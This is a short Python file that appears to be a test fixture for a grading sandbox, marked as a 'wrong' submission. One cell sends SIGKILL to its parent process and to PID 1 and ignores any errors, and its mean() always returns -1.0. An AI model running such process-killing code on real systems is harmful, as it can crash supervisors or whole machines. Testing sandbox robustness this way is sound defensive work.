"""Signals its parent, its group and every process it may."""

STATUS = {"wrong"}

# %%
import os
import signal

for kill in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(1, signal.SIGKILL),
):
    try:
        kill()
    except OSError:
        pass


# %% mean
def mean(x):
    return -1.0
